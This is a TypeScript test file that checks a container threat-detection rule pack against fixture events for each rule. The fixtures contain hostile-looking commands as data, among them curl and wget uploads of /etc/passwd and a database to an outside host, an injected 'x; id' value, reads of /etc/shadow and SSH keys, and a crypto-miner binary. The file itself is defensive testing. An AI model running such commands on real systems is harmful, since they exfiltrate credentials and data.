// The shipped rule pack, loaded through the real engine: it has no problems, and every rule has
// an event fixture that fires it and a near miss that must not.
import t from 'tap'
import { validateEvent } from '@sidewatch/proto/schema'
import { loadRules } from '../src/rules/load-rules'
import { RuleEngine } from '../src/rules/rule-engine'
import type { AnyEvent } from '../src/rules/fields'

const T0 = Date.parse('2026-11-27T10:00:00.000Z')
let n = 0
const env = (s: number, source: string, kind: string): { kind: string } & Record<string, unknown> => ({ id: `ev-${++n}`, ts: new Date(T0 + s * 1000).toISOString(), source, kind, container: 'app' })
const proc = (s: number, p: Record<string, unknown>): AnyEvent => ({ ...env(s, 'agent.proc', 'process.start'), process: { pid: 100 + n, ppid: 1, user: 'root', uid: 0, ...p } }) as AnyEvent
const exec = (s: number, file: string, commandLine: string): AnyEvent => ({ ...env(s, 'node-asm', 'process.exec'), service: 'shop', exec: { method: 'exec', file, args: [], shell: false, command_line: commandLine, pid: 200 + n } }) as AnyEvent
const flow = (s: number, f: Record<string, unknown>, owner?: Record<string, unknown>): AnyEvent => ({
  ...env(s, 'agent.net', 'net.flow'),
  flow: { proto: 'tcp', src: '169.254.170.2', sport: 40000 + n, dst: '198.51.100.7', dport: 443, first: T0 / 1000 + s, last: T0 / 1000 + s + 1, src_pkts: 10, src_bytes: 1000, dst_pkts: 10, dst_bytes: 5000, end: 'fin', scope: 'outbound', ...f, ...(owner === undefined ? {} : { process: owner }) },
}) as AnyEvent
const attack = (cls: string, blocked: boolean): AnyEvent => ({ ...env(0, 'node-asm', 'attack'), service: 'shop', attack: { class: cls, sink: 'child_process.exec', input: { name: 'query.name', value: 'x; id' }, target: 'echo x; id', request: { url: '/greet?name=x' }, blocked } }) as AnyEvent
const fsop = (op: string, path: string): AnyEvent => ({ ...env(0, 'node-asm', 'fs.op'), service: 'shop', fs: { op, path } }) as AnyEvent
const login = (): AnyEvent => ({ ...env(0, 'agent.proc', 'login.ssh'), login: { user: 'root', pid: 77, tty: '/dev/pts/3', peer: { address: '203.0.113.9', port: 51000 } } }) as AnyEvent
const SHA = 'c'.repeat(64)
const node = { pid: 10, exe: '/usr/local/bin/node', sha256: 'd'.repeat(64) }
const curl = { pid: 11, exe: '/usr/bin/curl' }

interface Case { before?: AnyEvent[], fires: AnyEvent[], misses: AnyEvent[] }
const bigFlow = (s: number, dst: string, bytes: number): AnyEvent => flow(s, { dst, src_bytes: bytes }, node)

const CASES: Record<string, () => Case> = {
  'Terminal shell in container': () => ({ fires: [proc(0, { exe: '/bin/bash', tty: '/dev/pts/0', sid: 5 })], misses: [proc(0, { exe: '/bin/bash' })] }),
  'Process on a terminal in container': () => ({ fires: [proc(0, { exe: '/usr/bin/cat', tty: '/dev/pts/1' })], misses: [proc(0, { exe: '/bin/sh', tty: '/dev/pts/1' }), proc(0, { exe: '/usr/bin/cat' })] }),
  'SSH server started in container': () => ({ fires: [proc(0, { exe: '/usr/sbin/sshd', cmdline: ['sshd', '-D'] })], misses: [proc(0, { exe: '/usr/bin/ssh' })] }),
  'SSH server accepting connections in container': () => ({
    fires: [flow(0, { src: '203.0.113.9', dst: '169.254.170.2', dport: 22, scope: 'inbound' }, { pid: 5, exe: '/usr/sbin/sshd' })],
    misses: [flow(0, { src: '203.0.113.9', dst: '169.254.170.2', dport: 22, scope: 'inbound' }, { pid: 5, exe: '/usr/local/bin/node' })],
  }),
  'SSH server present in container': () => ({
    fires: [{ ...env(0, 'agent.proc', 'sshd.presence'), sshd: { container_id: 'abc', binaries: ['/usr/sbin/sshd'], running: [], listening: [] } } as AnyEvent],
    misses: [{ ...env(0, 'agent.proc', 'sshd.presence'), sshd: { container_id: 'abc', binaries: [], running: [], listening: [] } } as AnyEvent],
  }),
  'SSH login into container': () => ({ fires: [login()], misses: [proc(0, { exe: '/usr/sbin/sshd' }) as AnyEvent].map((e) => ({ ...e, kind: 'process.exit' })) }),
  'Unexpected outbound destination': () => ({
    before: [flow(0, { dst: '198.51.100.7' }, node)],
    fires: [flow(700, { dst: '203.0.113.50' }, node)],
    misses: [flow(0, { dst: '203.0.113.50' }, node), flow(700, { dst: '10.1.2.3' }, node)],
  }),
  'Credentials endpoint from unexpected process': () => ({ fires: [flow(0, { dst: '169.254.170.2', dport: 80, scope: 'intra-task' }, curl)], misses: [flow(0, { dst: '198.51.100.7', dport: 80 }, curl)] }),
  'Large outbound transfer to a new destination': () => ({
    before: [bigFlow(0, '198.51.100.7', 1000)],
    fires: [bigFlow(700, '203.0.113.8', 60e6), bigFlow(730, '203.0.113.8', 60e6)],
    misses: [bigFlow(700, '203.0.113.8', 60e6), bigFlow(770, '203.0.113.8', 60e6), bigFlow(771, '10.0.0.5', 200e6), bigFlow(772, '198.51.100.7', 200e6), bigFlow(10, '203.0.113.9', 200e6)],
  }),
  'Remote copy tool connecting out': () => ({ fires: [flow(0, {}, { pid: 12, exe: '/usr/bin/rsync' })], misses: [flow(0, {}, node), flow(0, { scope: 'inbound' }, { pid: 12, exe: '/usr/bin/rsync' })] }),
  'Upload with curl or wget': () => ({
    fires: [exec(0, '/usr/bin/curl', '/usr/bin/curl -T /etc/passwd https://203.0.113.8/up'), proc(0, { exe: '/usr/bin/wget', cmdline: ['wget', '--post-file', '/data/db.sqlite', 'http://203.0.113.8/'] })],
    misses: [exec(0, '/usr/bin/curl', '/usr/bin/curl -s https://198.51.100.7/health')],
  }),
  'New executable after learning': () => ({
    before: [proc(0, { exe: '/usr/local/bin/node', sha256: SHA })],
    fires: [proc(400, { exe: '/usr/local/bin/xmrig', sha256: SHA })],
    misses: [proc(0, { exe: '/usr/local/bin/xmrig', sha256: SHA }), proc(400, { exe: '/usr/local/bin/node' })],
  }),
  'Executable run from a temporary directory': () => ({ fires: [proc(0, { exe: '/dev/shm/x', sha256: SHA })], misses: [proc(0, { exe: '/usr/bin/tmpreaper' })] }),
  'Deleted executable running': () => ({ fires: [proc(0, { exe: '/usr/local/bin/x', exe_deleted: true })], misses: [proc(0, { exe: '/usr/local/bin/x', exe_deleted: false })] }),
  'Reverse shell': () => ({ fires: [proc(0, { exe: '/bin/bash', shell: true, stdio_socket: true })], misses: [proc(0, { exe: '/bin/bash', shell: true }), proc(0, { exe: '/usr/bin/socat', stdio_socket: true })] }),
  'Package manager run in container': () => ({ fires: [proc(0, { exe: '/usr/bin/apt-get', cmdline: ['apt-get', 'install', 'nmap'] }), exec(0, '/usr/local/bin/pip', 'pip install requests')], misses: [proc(0, { exe: '/usr/bin/aptly' })] }),
  'Shell injection': () => ({ fires: [attack('shell_injection', false), attack('shell_injection', true)], misses: [attack('ssrf', false)] }),
  'Command injection': () => ({ fires: [attack('command_injection', false)], misses: [attack('shell_injection', false)] }),
  'Path traversal': () => ({ fires: [attack('path_traversal', true)], misses: [attack('command_injection', true)] }),
  'Server-side request forgery': () => ({ fires: [attack('ssrf', false)], misses: [attack('path_traversal', false)] }),
  'Sensitive file read by application': () => ({ fires: [fsop('readFileSync', '/etc/shadow'), fsop('open', '/root/.ssh/authorized_keys')], misses: [fsop('readFileSync', '/etc/hostname'), fsop('writeFile', '/etc/shadow')] }),
}

const set = loadRules([])

t.test('the shipped pack loads without problems', async (t) => {
  t.same(set.problems, [])
  t.ok(set.rules.length >= 19)
  t.ok(set.rules.every((r) => r.tags.some((tag) => /^T\d{4}/.test(tag))), 'every rule has a MITRE ATT&CK technique tag')
})

t.test('every shipped rule has a fixture that fires it and a near miss that does not', async (t) => {
  // CloudTrail rules have their fixtures (recorded AWS records) in rules-cloudtrail-pack.test.ts.
  const runtime = set.rules.filter((r) => !r.file.endsWith('80-cloudtrail.yaml'))
  t.same(runtime.map((r) => r.name).filter((name) => !(name in CASES)), [], 'no rule without fixtures')
  for (const [name, make] of Object.entries(CASES)) {
    t.ok(set.rules.some((r) => r.name === name), `${name} is in the pack`)
    const { before = [], fires, misses } = make()
    for (const e of [...before, ...fires, ...misses]) {
      const issue = validateEvent(e)
      if (issue !== undefined) t.fail(`${name}: fixture ${e.id} is not a valid event: ${issue.message} at ${issue.field}`)
    }
    const firing = new RuleEngine(set)
    for (const e of before) firing.evaluate(e)
    const fired = [...fires.flatMap((e) => firing.evaluate(e)), ...firing.flush()].filter((a) => a.alert.rule === name)
    t.ok(fired.length >= 1, `${name}: fires`)
    for (const a of fired) {
      t.equal(validateEvent(a), undefined, `${name}: the alert is a valid event`)
      t.notMatch(a.alert.output, /%[a-z]/, `${name}: the output has no placeholder left`)
    }
    const missing = new RuleEngine(set)
    for (const e of before) missing.evaluate(e)
    const missed = [...misses.flatMap((e) => missing.evaluate(e)), ...missing.flush()].filter((a) => a.alert.rule === name)
    t.same(missed.map((a) => a.alert.output), [], `${name}: the near misses do not fire`)
  }
})
